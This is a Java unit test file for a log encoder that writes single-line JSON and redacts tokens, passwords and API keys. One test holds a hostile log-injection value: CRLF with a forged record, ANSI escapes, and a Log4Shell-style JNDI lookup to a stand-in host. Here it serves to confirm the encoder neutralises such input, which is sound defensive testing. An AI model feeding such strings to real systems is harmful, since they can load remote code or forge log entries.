package dev.latchkey.app.logging;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.classic.spi.ThrowableProxy;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.OutputStreamAppender;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.event.KeyValuePair;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class RedactingJsonEncoderTest {
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String REFRESH_TOKEN = "rt.9fKq2ZpL0xWmY7vB3nHc8sJd";
    private static final String JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.U2lnbmF0dXJlQnl0ZXM";

    private final LoggerContext context = new LoggerContext();
    private final Logger logger = context.getLogger("dev.latchkey.test");
    private final RedactingJsonEncoder encoder = new RedactingJsonEncoder();

    @BeforeEach
    void startEncoder() {
        context.setMDCAdapter(new LogbackMDCAdapter());
        encoder.setContext(context);
        encoder.start();
    }

    private LoggingEvent event(String message, Object... arguments) {
        LoggingEvent event = new LoggingEvent(Logger.FQCN, logger, Level.INFO, message, null, arguments);
        event.setThreadName("worker-1");
        event.setInstant(Instant.parse("2026-05-01T10:15:30.123Z"));
        return event;
    }

    private String encode(LoggingEvent event) {
        return new String(encoder.encode(event), StandardCharsets.UTF_8);
    }

    private static JsonNode parseSingleLine(String encoded) {
        assertThat(encoded).endsWith("\n");
        assertThat(encoded.substring(0, encoded.length() - 1)).doesNotContain("\n", "\r", "\u001b");
        return JSON.readTree(encoded);
    }

    @Test
    void encode_plainEvent_writesOneParseableJsonLine() {
        JsonNode line = parseSingleLine(encode(event("user {} connected {}", "alice", "github")));

        assertThat(line.get("ts").asString()).isEqualTo("2026-05-01T10:15:30.123Z");
        assertThat(line.get("level").asString()).isEqualTo("INFO");
        assertThat(line.get("logger").asString()).isEqualTo("dev.latchkey.test");
        assertThat(line.get("thread").asString()).isEqualTo("worker-1");
        assertThat(line.get("msg").asString()).isEqualTo("user alice connected github");
        assertThat(line.has("error")).isFalse();
    }

    @Test
    void encode_hostileMessage_staysOneLineWithTextIntact() {
        String hostile =
                "kid\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\u001b[31mred\u001b[0m\"}\u2028${jndi:ldap://evil.test/a}\t\\";

        String encoded = encode(event("rejected kid {}", hostile));
        JsonNode line = parseSingleLine(encoded);

        assertThat(line.get("msg").asString()).isEqualTo("rejected kid " + hostile);
        assertThat(line.get("level").asString()).isEqualTo("INFO");
        assertThat(encoded).doesNotContain("\u2028");
    }

    @Test
    void encode_mdcAndKeyValues_becomeTopLevelFieldsWithTypes() {
        LoggingEvent event = event("request");
        event.setMDCPropertyMap(Map.of("request_id", "req-1", "level", "forged"));
        event.addKeyValuePair(new KeyValuePair("status", 200));
        event.addKeyValuePair(new KeyValuePair("duration_ms", 3.5));
        event.addKeyValuePair(new KeyValuePair("cached", true));
        event.addKeyValuePair(new KeyValuePair("route", "/v1/tokens/{resource}"));

        JsonNode line = parseSingleLine(encode(event));

        assertThat(line.get("request_id").asString()).isEqualTo("req-1");
        assertThat(line.get("level").asString()).isEqualTo("INFO");
        assertThat(line.get("mdc.level").asString()).isEqualTo("forged");
        assertThat(line.get("status").isInt()).isTrue();
        assertThat(line.get("status").asInt()).isEqualTo(200);
        assertThat(line.get("duration_ms").asDouble()).isEqualTo(3.5);
        assertThat(line.get("cached").asBoolean()).isTrue();
        assertThat(line.get("route").asString()).isEqualTo("/v1/tokens/{resource}");
    }

    @Test
    void encode_secretsInMessageKeyValuesMdcAndException_areRedacted() {
        LoggingEvent event =
                event("refresh failed for refresh_token={} with Authorization: Bearer {}", REFRESH_TOKEN, JWT);
        event.setMDCPropertyMap(
                Map.of("callback", "https://app.test/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=af0ifjsldkj"));
        event.addKeyValuePair(new KeyValuePair("body", "{\"refresh_token\":\"" + REFRESH_TOKEN + "\"}"));
        event.addKeyValuePair(new KeyValuePair("dsn", "jdbc:postgresql://db/lk?user=app&password=pg-s3cret"));
        event.setThrowableProxy(new ThrowableProxy(new IllegalStateException(
                "upstream said {\"access_token\":\"" + JWT + "\"}",
                new RuntimeException("client_secret=" + REFRESH_TOKEN))));

        String encoded = encode(event);
        JsonNode line = parseSingleLine(encoded);

        assertThat(encoded)
                .doesNotContain(REFRESH_TOKEN)
                .doesNotContain("eyJzdWIiOiJhbGljZSJ9")
                .doesNotContain("SplxlOBeZQQYbYS6WxSbIA")
                .doesNotContain("pg-s3cret");
        assertThat(line.get("msg").asString()).contains("refresh_token=[redacted:sha256:");
        assertThat(line.get("callback").asString()).contains("state=af0ifjsldkj");
        assertThat(line.get("error").get("class").asString()).isEqualTo("java.lang.IllegalStateException");
        assertThat(line.get("error").get("message").asString()).contains("[redacted:sha256:");
        assertThat(line.get("error").get("causes").get(0).asString())
                .startsWith("java.lang.RuntimeException: client_secret=[redacted");
    }

    @Test
    void encode_exception_writesAtMostTheConfiguredFrames() {
        encoder.setMaxStackFrames(3);
        LoggingEvent event = event("failed");
        event.setThrowableProxy(new ThrowableProxy(deepException(40)));

        JsonNode stack = parseSingleLine(encode(event)).get("error").get("stack");

        assertThat(stack.size()).isEqualTo(3);
        assertThat(stack.get(0).asString()).contains("deepException");
    }

    private static RuntimeException deepException(int depth) {
        return depth == 0 ? new RuntimeException("deep") : deepException(depth - 1);
    }

    @Test
    void encode_hugeValue_isCutAfterRedaction() {
        encoder.setMaxFieldLength(100);
        String message = "x".repeat(90) + " password=" + REFRESH_TOKEN + " " + "y".repeat(500);

        JsonNode line = parseSingleLine(encode(event(message)));

        assertThat(line.get("msg").asString())
                .hasSizeLessThan(140)
                .contains("...[cut ")
                .doesNotContain("rt.9f");
    }

    @Test
    void appender_fluentApiAndMdc_writeOneRedactedLinePerEvent() {
        ByteArrayOutputStream sink = new ByteArrayOutputStream();
        OutputStreamAppender<ILoggingEvent> appender = new OutputStreamAppender<>();
        appender.setContext(context);
        appender.setEncoder(encoder);
        appender.setOutputStream(sink);
        appender.start();
        logger.addAppender(appender);
        context.getMDCAdapter().put("request_id", "req-7");
        try {
            logger.atWarn()
                    .addKeyValue("api_key", "lk_4f9a8b7c6d5e4f3a2b1c0d9e")
                    .addKeyValue("attempt", 2)
                    .log("key rejected\r\nforged line");
            logger.info("second {}", "event");
        } finally {
            context.getMDCAdapter().remove("request_id");
            appender.stop();
        }

        List<String> lines = sink.toString(StandardCharsets.UTF_8).lines().toList();

        assertThat(lines).hasSize(2);
        JsonNode first = JSON.readTree(lines.get(0));
        assertThat(first.get("level").asString()).isEqualTo("WARN");
        assertThat(first.get("msg").asString()).isEqualTo("key rejected\r\nforged line");
        assertThat(first.get("request_id").asString()).isEqualTo("req-7");
        assertThat(first.get("attempt").asInt()).isEqualTo(2);
        assertThat(first.get("api_key").asString()).startsWith("[redacted");
        assertThat(lines.get(0)).doesNotContain("4f9a8b7c6d5e4f3a2b1c0d9e");
        assertThat(JSON.readTree(lines.get(1)).get("msg").asString()).isEqualTo("second event");
    }

    @Test
    void encode_headerAndFooter_areEmpty() {
        assertThat(encoder.headerBytes()).isEmpty();
        assertThat(encoder.footerBytes()).isEmpty();
    }
}
